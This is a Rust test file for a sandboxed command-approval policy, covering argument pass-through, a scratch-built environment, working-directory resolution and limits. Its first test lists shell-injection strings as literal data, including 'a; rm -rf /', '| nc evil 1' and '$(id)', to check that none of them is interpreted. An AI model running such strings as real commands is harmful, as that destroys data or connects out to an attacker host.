//! Allowed jobs: what the approved command holds, byte for byte.

use std::fs;
use std::path::Path;
use std::time::Duration;

use super::{Fixture, JobExt, allowed, assert_check, job, job_owned};
use crate::policy::rules::FIXED_PATH;

#[test]
fn shell_metacharacters_reach_the_program_byte_for_byte_as_one_argument_each() {
    let fx = Fixture::new();
    let args = [
        "a; rm -rf /",
        "&& reboot",
        "| nc evil 1",
        "$(id)",
        "`id`",
        "with  two spaces",
        "",
        " ",
        "*",
        "line\nbreak",
        "tab\there",
        "'\"quotes\"'",
        "ünïcødé 🎮",
        "%s%n",
    ];
    let approved = allowed(&fx.policy, &job("/bin/echo", &args));
    assert_eq!(approved.args(), args);
}

#[test]
fn the_environment_is_built_from_scratch() {
    let fx = Fixture::new();
    let approved = allowed(&fx.policy, &job("/bin/echo", &[]).env("TZ", "UTC").env("GSM_X", "1"));
    let root = fx.root.to_str().unwrap();
    let expected =
        [("GSM_X", "1"), ("HOME", root), ("LANG", "C.UTF-8"), ("PATH", FIXED_PATH), ("TZ", "UTC")]
            .map(|(k, v)| (k.to_owned(), v.to_owned()));
    assert_eq!(approved.env(), expected);
}

#[test]
fn a_rule_that_names_a_dangerous_variable_exactly_allows_it() {
    let fx = Fixture::new();
    let approved = allowed(
        &fx.policy,
        &job("/usr/bin/env", &[]).env("PATH", "/opt/x/bin").env("PYTHONPATH", "/opt/x/lib"),
    );
    let env = approved.env();
    assert!(env.contains(&("PATH".to_owned(), "/opt/x/bin".to_owned())), "{env:?}");
    assert!(env.contains(&("PYTHONPATH".to_owned(), "/opt/x/lib".to_owned())), "{env:?}");
    assert_eq!(env.iter().filter(|(k, _)| k == "PATH").count(), 1, "PATH is replaced, not doubled");
    // The rule's ordinary glob works for ordinary names.
    allowed(&fx.policy, &job("/usr/bin/env", &[]).env("APP_MODE", "x"));
}

#[test]
fn a_job_without_cwd_runs_in_the_first_root_with_the_defaults() {
    let fx = Fixture::new();
    let approved = allowed(&fx.policy, &job("/bin/echo", &["hi"]));
    assert_eq!(approved.cwd_root(), fx.root);
    assert_eq!(approved.cwd_relative(), Path::new(""));
    assert_eq!(approved.cwd(), fx.root);
    assert_eq!(approved.timeout(), Duration::from_secs(60));
    assert_eq!(approved.output_cap_bytes(), 65536);
    assert_eq!(approved.kill_grace(), Duration::from_secs(5));
}

#[test]
fn rule_limits_apply_and_a_job_may_ask_for_less() {
    let fx = Fixture::new();
    let approved = allowed(&fx.policy, &job("/bin/sleep", &["30"]).timeout(40).cap(0));
    assert_eq!(approved.timeout(), Duration::from_secs(40));
    assert_eq!(approved.output_cap_bytes(), 0);
    assert_eq!(approved.kill_grace(), Duration::from_secs(1));
    // The rule's cap is below the global default, so the default is clamped to it.
    let approved = allowed(&fx.policy, &job("/bin/sleep", &["0"]));
    assert_eq!(approved.output_cap_bytes(), 1024);
}

#[test]
fn relative_and_absolute_cwds_resolve_beneath_their_root() {
    let fx = Fixture::new();
    let approved = allowed(&fx.policy, &job("/bin/true", &[]).cwd("srv/world"));
    assert_eq!(approved.cwd_root(), fx.root);
    assert_eq!(approved.cwd_relative(), Path::new("srv/world"));

    let absolute = fx.root.join("srv").to_str().unwrap().to_owned();
    let approved = allowed(&fx.policy, &job("/bin/true", &[]).cwd(&absolute));
    assert_eq!(approved.cwd_relative(), Path::new("srv"));

    let approved = allowed(&fx.policy, &job("/bin/true", &[]).cwd(fx.root2.to_str().unwrap()));
    assert_eq!(approved.cwd_root(), fx.root2);
    let home = approved.env().iter().find(|(k, _)| k == "HOME").map(|(_, v)| v.as_str());
    assert_eq!(home, fx.root2.to_str(), "HOME is the root the cwd lies in");

    // A symlink that stays inside resolves to its target; `.` components are harmless.
    let approved = allowed(&fx.policy, &job("/bin/true", &[]).cwd("./inside/./world"));
    assert_eq!(approved.cwd_relative(), Path::new("srv/world"));
}

#[test]
fn a_url_encoded_dot_dot_is_a_literal_directory_name() {
    let fx = Fixture::new();
    fs::create_dir(fx.root.join("..%2f")).unwrap();
    let approved = allowed(&fx.policy, &job("/bin/true", &[]).cwd("..%2f"));
    assert_eq!(approved.cwd(), fx.root.join("..%2f"));
}

#[test]
fn a_program_may_be_named_by_any_path_that_resolves_to_the_allowed_file() {
    let fx = Fixture::new();
    let canonical = fs::canonicalize("/bin/echo").unwrap();
    let by_symlink = allowed(&fx.policy, &job(&fx.path("my_echo"), &[]));
    assert_eq!(by_symlink.program(), canonical);
    let by_canonical = allowed(&fx.policy, &job(canonical.to_str().unwrap(), &[]));
    assert_eq!(by_canonical.program(), canonical);
    assert_eq!(by_symlink.program_identity(), by_canonical.program_identity());
}

#[test]
fn the_next_rule_for_the_same_program_is_tried_when_one_does_not_fit() {
    let fx = Fixture::new();
    allowed(&fx.policy, &job("/bin/true", &["word"]));
    allowed(&fx.policy, &job("/bin/true", &[]));
}

#[test]
fn options_pass_where_the_rule_lists_them() {
    let fx = Fixture::new();
    let approved =
        allowed(&fx.policy, &job("/bin/tar", &["--create", "--file=saves.tar", "world/data"]));
    assert_eq!(approved.args(), ["--create", "--file=saves.tar", "world/data"]);
}

#[test]
fn allow_extra_accepts_further_plain_arguments_as_they_are() {
    let fx = Fixture::new();
    let approved = allowed(&fx.policy, &job("/bin/ls", &["-l", "a b", "$(id)", ""]));
    assert_eq!(approved.args(), ["-l", "a b", "$(id)", ""]);
    allowed(&fx.policy, &job("/bin/ls", &["-l"]));
}

#[test]
fn the_largest_allowed_argument_and_count_pass() {
    let fx = Fixture::new();
    let mut args = vec!["x".to_owned(); 15];
    args.push("y".repeat(1024));
    let approved = allowed(&fx.policy, &job_owned("/bin/echo", args.clone()));
    assert_eq!(approved.args(), args);
}

#[test]
fn an_approved_command_serialises_without_its_identity() {
    let fx = Fixture::new();
    let approved = assert_check(&fx.policy, &job("/bin/sleep", &["1"]), "allowed").unwrap();
    let json = serde_json::to_value(&approved).unwrap();
    let mut keys: Vec<&str> = json.as_object().unwrap().keys().map(String::as_str).collect();
    keys.sort_unstable();
    assert_eq!(
        keys,
        [
            "args",
            "cwd_relative",
            "cwd_root",
            "env",
            "kill_grace_secs",
            "output_cap_bytes",
            "program",
            "timeout_secs",
        ]
    );
    // The global default (60s) is above the rule's limit (40s), so the rule's limit applies.
    assert_eq!(json["timeout_secs"], 40.0);
}
